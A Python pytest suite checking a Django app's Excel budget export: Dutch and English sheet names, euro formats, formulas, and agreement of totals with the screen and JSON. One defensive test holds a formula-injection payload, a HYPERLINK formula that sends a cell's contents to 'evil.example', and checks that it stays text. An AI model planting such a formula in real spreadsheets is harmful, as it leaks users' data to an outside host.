"""The Excel export, read back: values, formulas, formats; and the same totals as the screen and JSON."""

from __future__ import annotations

import re
from decimal import Decimal
from io import BytesIO

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from budgets import excel, services
from budgets.selectors import budget_for
from plans.content.selectors import plan_content
from plans.interchange import services as interchange

from .xlsx_eval import evaluate

EURO = '"€" #,##0.00'


@pytest.fixture
def tricky_plan(budget_plan, author, sources):
    """Add amounts that round at half a cent: 3 × 0.25 h × 10.10 = 7.575 → 7.58."""
    from plans.content import services as plan_services

    theme = budget_plan.themes.get()
    objective = budget_plan.objectives.get()
    l3 = plan_services.intervention_create(
        actor=author, plan=budget_plan, title="Korte module", objectives=[objective], years=[2029],
    )
    services.line_save(
        actor=author, plan=budget_plan, intervention=l3, year=2029,
        funding={sources["organisatiebudget"]: Decimal("60.00"), sources["overig"]: Decimal("7.56")},
        participants=3, cost_per_participant=Decimal("19.99"), replacement_hours=Decimal("0.25"),
        hourly_rate=Decimal("10.10"), other_costs=Decimal("0.01"),
    )
    assert theme
    return budget_plan


def workbook(plan):
    # In English: the source texts. A Dutch user gets Dutch sheet names (test below).
    with translation.override("en"):
        data = excel.workbook(budget_for(plan_content(plan)))
    return load_workbook(BytesIO(data))


def test_the_workbook_has_an_overview_the_estimate_and_a_sheet_per_year(budget_plan):
    book = workbook(budget_plan)
    assert book.sheetnames == [
        "Per funding source", "Per theme", "Planned and realised", "Cost estimate (R7)",
        "Year plan 2027", "Year plan 2028", "Year plan 2029", "Year plan 2030",
    ]


def test_a_dutch_user_downloads_dutch_sheets(client_of, author, budget_plan):
    response = client_of(author).get(reverse("budgets:excel", kwargs={"plan": budget_plan.pk}))
    book = load_workbook(BytesIO(response.content))
    assert book.sheetnames[0] == "Per financieringsbron"
    assert book.sheetnames[-1] == "Jaarplan 2030"
    assert [c.value for c in book["Jaarplan 2030"][1]][7] == "Kosten per deelnemer"
    # Every text of the estimate sheet is Dutch too (one was built inside an f-string, untranslated).
    estimate = book["Kostenraming (R7)"] if "Kostenraming (R7)" in book.sheetnames else book.worksheets[3]
    labels = [row[1].value for row in estimate.iter_rows(min_row=2) if row[1].value]
    assert any(label.endswith("– het thema als geheel") for label in labels)
    assert not any("general" in label for label in labels)


def test_a_year_sheet_has_a_frozen_bold_header_euro_formats_and_formulas(budget_plan):
    sheet = workbook(budget_plan)["Year plan 2027"]
    headers = [c.value for c in sheet[1]]
    assert headers[:14] == [
        "Code", "Learning intervention", "Theme", "Planning", "Participants", "Function or profession profile",
        "Learning outcome", "Cost per participant", "Training costs", "Replacement hours per participant",
        "Hourly rate", "Replacement costs", "Other costs", "Total",
    ]
    assert "Organisatiebudget" in headers and "Extra middelen Wlz" in headers
    assert all(c.font.bold for c in sheet[1])
    assert sheet.freeze_panes == "C2"
    assert sheet.auto_filter.ref.startswith("A1:")
    assert [sheet.cell(row=2, column=c).value for c in (1, 2, 3, 5)] == ["L1", "Training dementie", "T1", 10]
    assert sheet["H2"].value == 100 and sheet["H2"].number_format == EURO
    assert sheet["I2"].value == "=ROUND(E2*H2,2)"
    assert sheet["L2"].value == "=ROUND(E2*J2*K2,2)"
    assert sheet["N2"].value == "=I2+L2+M2"
    assert all(sheet.cell(row=2, column=c).number_format == EURO for c in (8, 9, 11, 12, 13, 14))
    total_row = sheet.max_row
    assert sheet.cell(row=total_row, column=2).value == "Total"
    assert sheet.cell(row=total_row, column=14).value == f"=SUM(N2:N{total_row - 1})"
    assert sheet.cell(row=total_row, column=14).font.bold


def test_each_row_and_total_in_the_workbook_equals_the_screen_figures(tricky_plan):
    budget = budget_for(plan_content(tricky_plan))
    book = workbook(tricky_plan)
    for year in tricky_plan.years:
        sheet = book[f"Year plan {year}"]
        lines = {line.intervention.code: line for line in budget.lines_in(year)}
        for row in range(2, sheet.max_row):
            code = sheet.cell(row=row, column=1).value
            assert evaluate(sheet, f"N{row}") == lines[code].total
            assert evaluate(sheet, f"{sheet.cell(row=1, column=sheet.max_column - 2).column_letter}{row}") == budget.unassigned(lines[code])
        assert evaluate(sheet, f"N{sheet.max_row}") == budget.year(year).total
    assert evaluate(book["Year plan 2029"], "L3") == Decimal("7.58")  # half a cent rounds up, as on screen


def test_screen_excel_and_json_agree_to_the_cent(client_of, author, tricky_plan):
    summary = interchange.export_plan(tricky_plan)["budget"]["summary"]
    book = workbook(tricky_plan)
    by_source = book["Per funding source"]
    last = by_source.max_row
    assert by_source.cell(row=last, column=2).value == "Total"
    excel_total = evaluate(by_source, f"G{last}")
    excel_by_year = {str(y): evaluate(by_source, f"{col}{last}") for y, col in zip(tricky_plan.years, "CDEF", strict=True)}
    json_total = Decimal(summary["total"])
    assert excel_total == json_total == Decimal("13117.56")
    assert excel_by_year == {y: Decimal(v) for y, v in summary["by_year"].items()}
    for row in range(2, last):
        code = by_source.cell(row=row, column=1).value
        expected = next(r for r in summary["by_source"] if r["code"] == code)
        assert evaluate(by_source, f"G{row}") == Decimal(expected["total"])
    by_theme = book["Per theme"]
    assert evaluate(by_theme, f"G{by_theme.max_row}") == json_total
    page = client_of(author).get(reverse("budgets:costs", kwargs={"plan": tricky_plan.pk})).content.decode()
    screen = re.search(r'id="costs-total">([^<]+)<', page).group(1)
    assert screen == "€\u00a013.117,56"
    for year, amount in summary["by_year"].items():
        cell = re.search(rf'data-year="{year}">([^<]+)<', page).group(1)
        assert Decimal(cell.replace("€\u00a0", "").replace(".", "").replace(",", ".")) == Decimal(amount)


def test_the_overview_sheets_use_euro_formats_and_formula_totals(budget_plan):
    sheet = workbook(budget_plan)["Per funding source"]
    assert [c.value for c in sheet[1]] == ["Code", "Funding source", "2027", "2028", "2029", "2030", "Total"]
    assert sheet.freeze_panes == "C2"
    assert sheet["G2"].value == "=SUM(C2:F2)"
    assert sheet["C2"].number_format == EURO and sheet["G2"].number_format == EURO
    assert sheet[f"C{sheet.max_row}"].value == f"=SUM(C2:C{sheet.max_row - 1})"


def test_the_estimate_sheet_lists_themes_and_objectives(budget_plan):
    sheet = workbook(budget_plan)["Cost estimate (R7)"]
    codes = [sheet.cell(row=r, column=1).value for r in range(2, sheet.max_row)]
    assert codes == ["T1", "D1"]
    assert evaluate(sheet, f"G{sheet.max_row}") == Decimal("12000.00")


def test_typed_text_that_looks_like_a_formula_stays_text(budget_plan, author):
    from plans.content import services as plan_services

    evil = '=HYPERLINK("https://evil.example/?x="&B3,"Klik hier")'
    theme = budget_plan.themes.get()
    plan_services.theme_update(actor=author, theme=theme, expected_version=theme.lock_version, title="=1+1")
    l1 = budget_plan.interventions.get(code="L1")
    plan_services.intervention_update(actor=author, intervention=l1, expected_version=l1.lock_version, title=evil)
    book = workbook(budget_plan)
    texts = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str) and ("evil.example" in cell.value or cell.value.startswith("=1+1"))]
    assert texts, "the typed titles appear in the workbook"
    assert all(cell.data_type == "s" for cell in texts)
    # Our own totals are still formulas.
    year_sheet = book["Year plan 2027"]
    assert any(cell.data_type == "f" for row in year_sheet.iter_rows(min_row=2) for cell in row)
